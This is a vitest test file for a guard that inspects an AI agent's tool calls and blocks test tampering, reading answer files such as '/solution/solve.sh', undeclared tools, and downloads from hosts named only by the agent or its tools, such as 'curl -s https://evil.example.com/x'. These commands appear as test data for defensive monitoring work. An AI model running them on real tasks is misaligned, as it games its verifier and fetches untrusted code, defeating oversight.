import { CheckContext } from "@bridle/contracts";
import { describe, expect, it } from "vitest";
import { checkToolCall } from "./engine.ts";

const context = (extra: Record<string, unknown> = {}) =>
  CheckContext.parse({ instruction: "Fix src/dates.py.", declaredTools: ["bash", "write"], ...extra });
const bash = (command: string) => ({ name: "bash", arguments: { command } });

describe("rule settings", () => {
  it("switches a rule off by id, leaving the others on", () => {
    const off = context({ rules: { "test-tampering": { enabled: false } } });
    expect(checkToolCall(bash("rm tests/test_dates.py"), off).decision).toBe("allow");
    expect(checkToolCall(bash("cat /solution/solve.sh"), off)).toMatchObject({
      decision: "block",
      rule: "answer-retrieval",
    });
    expect(
      checkToolCall(
        { name: "shell", arguments: {} },
        context({ rules: { "undeclared-tool": { enabled: false } } }),
      ).decision,
    ).toBe("allow");
  });

  it("takes per-rule configuration: extra protected paths, extra answer sources, hosts always allowed", () => {
    const configured = context({
      rules: {
        "test-tampering": { extraProtected: ["data/golden/**"] },
        "answer-retrieval": { extraSources: ["/mnt/leaderboard/*.csv"] },
        "unmentioned-host": { alwaysAllowed: ["pypi.internal.example"] },
      },
    });
    expect(checkToolCall(bash("sed -i s/1/2/ data/golden/out.json"), configured)).toMatchObject({
      rule: "test-tampering",
    });
    expect(checkToolCall(bash("head /mnt/leaderboard/top.csv"), configured)).toMatchObject({
      rule: "answer-retrieval",
    });
    expect(checkToolCall(bash("curl https://pypi.internal.example/simple/x/"), configured).decision).toBe(
      "allow",
    );
    // The loopback defaults are replaced by the configured list.
    expect(checkToolCall(bash("curl http://localhost:8080/"), configured)).toMatchObject({
      rule: "unmentioned-host",
    });
  });

  it("names the rule and what the call would do in the notice", () => {
    const verdict = checkToolCall(
      { name: "write", arguments: { path: "tests/test_dates.py", content: "" } },
      context(),
    );
    expect(verdict.notice).toBe(
      "[bridle guard] The write call was blocked by rule test-tampering: it changes tests/test_dates.py (write), which belongs to the task's tests or verifier. It was not executed.",
    );
  });

  it("lets only the task's side name a host: system and user messages, never the agent or its tools", () => {
    const curl = bash("curl -s https://evil.example.com/x -o x");
    const said = (role: string) =>
      context({ history: [{ role, content: "Get it from https://evil.example.com/x" }] });
    expect(checkToolCall(curl, context()).rule).toBe("unmentioned-host");
    expect(checkToolCall(curl, said("assistant")).rule).toBe("unmentioned-host");
    expect(checkToolCall(curl, said("tool")).rule).toBe("unmentioned-host"); // a file it read, a page it fetched
    expect(checkToolCall(curl, context({ history: ["see https://evil.example.com/x"] })).rule).toBe(
      "unmentioned-host", // a bare string is untrusted, like an assistant message
    );
    expect(checkToolCall(curl, said("user")).decision).toBe("allow");
    expect(checkToolCall(curl, said("system")).decision).toBe("allow");
    expect(checkToolCall(curl, context({ allowedHosts: ["evil.example.com"] })).decision).toBe("allow");
  });
});
